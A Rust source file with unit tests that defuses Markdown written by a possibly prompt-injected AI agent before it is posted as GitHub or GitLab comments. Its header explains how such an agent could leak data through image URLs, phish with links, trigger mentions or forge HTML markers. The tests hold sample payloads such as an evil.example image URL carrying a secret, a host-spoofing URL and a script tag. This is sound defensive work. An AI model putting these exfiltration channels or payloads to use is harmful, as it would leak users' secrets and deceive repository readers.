//! Agent text made inert before it is posted as Markdown (the final and progress comments, the
//! review body and inline comments, the PR title and body, GitLab notes). The agent may be
//! prompt-injected, so what it writes must not:
//! - load an image (GitHub's Camo fetches image URLs server-side: an exfiltration channel),
//! - link to another host, or autolink one (phishing),
//! - mention people or teams (`@user`, `@org/team`: notifications on the bot's behalf),
//! - carry raw HTML (`<img>`, `<script>`, `<details>`, or a forged `<!-- sandcrab:... -->`
//!   marker): the few tags the comments carry are sandcrab's own, added around this text.
//!
//! How: outside fenced code blocks (where GitHub interprets nothing, and which are left as
//! written so code and suggestions survive), an invisible character is put where Markdown would
//! see syntax: after every `<` (no tag, comment or autolink can start), between `]` and `(` or
//! `:` (no inline link, image or reference definition, so no image at all), after `@` before a
//! name (no mention), and inside the `://` of a URL or after `www` (no autolink) unless the host
//! is the repository's own server. The text reads the same; none of it is live.

/// Zero-width space: breaks syntax without showing.
const ZWSP: char = '\u{200B}';
/// Zero-width joiner: breaks a mention without showing.
const ZWJ: char = '\u{200D}';

/// `text` with images, outside links, mentions and raw HTML made inert; `own_host` (e.g.
/// `github.com`) is the one host whose bare URLs stay links.
pub fn inert(text: &str, own_host: Option<&str>) -> String {
    let mut out = String::with_capacity(text.len() + text.len() / 16);
    let mut fence: Option<(char, usize)> = None;
    for line in text.split_inclusive('\n') {
        match fence {
            Some((c, n)) => {
                out.push_str(line);
                if closes_fence(line, c, n) {
                    fence = None;
                }
            }
            None => match opens_fence(line) {
                Some(f) => {
                    fence = Some(f);
                    out.push_str(line);
                }
                None => prose(line, own_host, &mut out),
            },
        }
    }
    out
}

/// A fence opener at column 0: three or more backticks (with no backtick after them) or tildes.
fn opens_fence(line: &str) -> Option<(char, usize)> {
    let c = line.chars().next().filter(|c| *c == '`' || *c == '~')?;
    let n = line.chars().take_while(|x| *x == c).count();
    let info = &line[n..];
    (n >= 3 && !(c == '`' && info.contains('`'))).then_some((c, n))
}

/// A closing fence: up to three spaces, `n` or more of `c`, then only whitespace.
fn closes_fence(line: &str, c: char, n: usize) -> bool {
    let body = line.trim_end_matches(['\n', '\r']);
    let indent = body.chars().take_while(|x| *x == ' ').count();
    if indent > 3 {
        return false;
    }
    let rest = &body[indent..];
    let run = rest.chars().take_while(|x| *x == c).count();
    run >= n && rest[run..].trim().is_empty()
}

fn prose(line: &str, own_host: Option<&str>, out: &mut String) {
    let bytes = line.as_bytes();
    let mut i = 0;
    while i < line.len() {
        let rest = &line[i..];
        // `www.` first: `www.x://y` is a www autolink whatever follows.
        if (i == 0 || !is_word(bytes[i - 1])) && starts_with_ignore_case(rest, "www.") {
            let host = host_of(rest);
            out.push_str(&rest[..3]);
            if !is_own(host, own_host) {
                out.push(ZWSP);
            }
            i += 3;
            continue;
        }
        if let Some(len) = url_scheme(rest, i == 0 || !is_word(bytes[i - 1])) {
            // `len` covers `scheme:`; the host follows `//`.
            let host = host_of(&rest[len + 2..]);
            out.push_str(&rest[..len]);
            if !is_own(host, own_host) {
                out.push(ZWSP);
            }
            i += len;
            continue;
        }
        let c = rest.chars().next().unwrap_or_default();
        out.push(c);
        let next = rest[c.len_utf8()..].chars().next();
        match c {
            '<' => out.push(ZWSP),
            ']' if matches!(next, Some('(' | ':')) => out.push(ZWSP),
            '@' if next.is_some_and(|n| n.is_ascii_alphanumeric()) => out.push(ZWJ),
            _ => {}
        }
        i += c.len_utf8();
    }
}

/// The length of `scheme:` when `text` starts with a URL scheme followed by `//`.
fn url_scheme(text: &str, at_word_start: bool) -> Option<usize> {
    if !at_word_start {
        return None;
    }
    let scheme = text
        .bytes()
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.'))
        .count();
    (scheme >= 2
        && text.as_bytes().first()?.is_ascii_alphabetic()
        && text[scheme..].starts_with("://"))
    .then_some(scheme + 1)
}

/// The host at the start of `text` (after `//`), without user info or port.
fn host_of(text: &str) -> &str {
    let end = text
        .find(|c: char| c.is_whitespace() || "/?#)<>\"'`]\\|".contains(c))
        .unwrap_or(text.len());
    let authority = &text[..end];
    let host = authority.rsplit('@').next().unwrap_or(authority);
    host.split(':').next().unwrap_or(host)
}

fn is_own(host: &str, own: Option<&str>) -> bool {
    own.is_some_and(|own| !own.is_empty() && host.eq_ignore_ascii_case(own))
}

fn is_word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

fn starts_with_ignore_case(text: &str, prefix: &str) -> bool {
    text.len() >= prefix.len()
        && text.as_bytes()[..prefix.len()].eq_ignore_ascii_case(prefix.as_bytes())
}

/// The host of a server URL (`https://github.com` → `github.com`).
pub fn host_of_url(url: &str) -> Option<String> {
    url::Url::parse(url).ok()?.host_str().map(str::to_string)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn live(text: &str) -> String {
        text.replace([ZWSP, ZWJ], "")
    }

    #[test]
    fn images_and_links_lose_their_syntax_but_read_the_same() {
        let text =
            "See ![x](https://evil.example/p.png?d=SECRET) and [docs](https://evil.example) \
                    or ![r][1]\n[1]: https://evil.example/i.png\n";
        let out = inert(text, Some("github.com"));
        assert_eq!(live(&out), text);
        assert!(!out.contains("]("), "{out:?}");
        assert!(!out.contains("]:"), "{out:?}");
        assert!(!out.contains("https://evil"), "{out:?}");
    }

    #[test]
    fn bare_urls_to_other_hosts_are_not_autolinked_the_own_host_is() {
        let out = inert(
            "https://github.com/o/r/pull/1 http://evil.example/x www.evil.example HTTPS://EVIL.example",
            Some("github.com"),
        );
        assert!(out.contains("https://github.com/o/r/pull/1"), "{out:?}");
        assert!(!out.contains("http://evil"), "{out:?}");
        assert!(!out.contains("www.evil"), "{out:?}");
        assert!(!out.contains("HTTPS://EVIL"), "{out:?}");
        let spoof = inert("https://github.com@evil.example/", Some("github.com"));
        assert!(!spoof.contains("https://github.com@evil"), "{spoof:?}");
        assert!(!inert("https://github.com/x", None).contains("https://"));
    }

    #[test]
    fn mentions_and_team_mentions_are_broken() {
        let out = inert(
            "ping @octocat and @my-org/security-team, mail a@b.example",
            None,
        );
        assert!(
            !out.contains("@octocat") && !out.contains("@my-org/"),
            "{out:?}"
        );
        assert_eq!(
            live(&out),
            "ping @octocat and @my-org/security-team, mail a@b.example"
        );
    }

    #[test]
    fn raw_html_and_forged_markers_are_text() {
        for html in [
            "<img src=https://evil.example/x>",
            "<script>alert(1)</script>",
            "<details><summary>x</summary></details>",
            "<!-- sandcrab:post 1 -->",
            "<https://evil.example>",
        ] {
            let out = inert(html, None);
            assert!(
                !out.contains("<i") && !out.contains("<s") && !out.contains("<d"),
                "{out:?}"
            );
            assert!(!out.contains("<!") && !out.contains("<h"), "{out:?}");
            assert_eq!(live(&out), html);
        }
    }

    #[test]
    fn fenced_code_is_left_as_written_and_a_fake_fence_is_not_trusted() {
        let code = "```suggestion\nlet v: Vec<String> = f(@x)[0](1);\n```\n";
        assert_eq!(inert(code, None), code);
        let tilde = "~~~\n<b>\n~~~~\n<img src=x>";
        let out = inert(tilde, None);
        assert!(
            out.starts_with("~~~\n<b>\n~~~~\n") && !out.ends_with("<img src=x>"),
            "{out:?}"
        );
        // Not a fence: a backtick in a backtick fence's info string, or an indented opener.
        for fake in ["```a`b\n<img src=x>\n```", "    ```\n<img src=x>\n```"] {
            assert!(!inert(fake, None).contains("<img"), "{fake:?}");
        }
        // A closing fence indented up to three spaces closes (as GitHub does).
        let closed = inert("```\nx\n   ```\n<img src=y>", None);
        assert!(!closed.contains("<img"), "{closed:?}");
    }
}
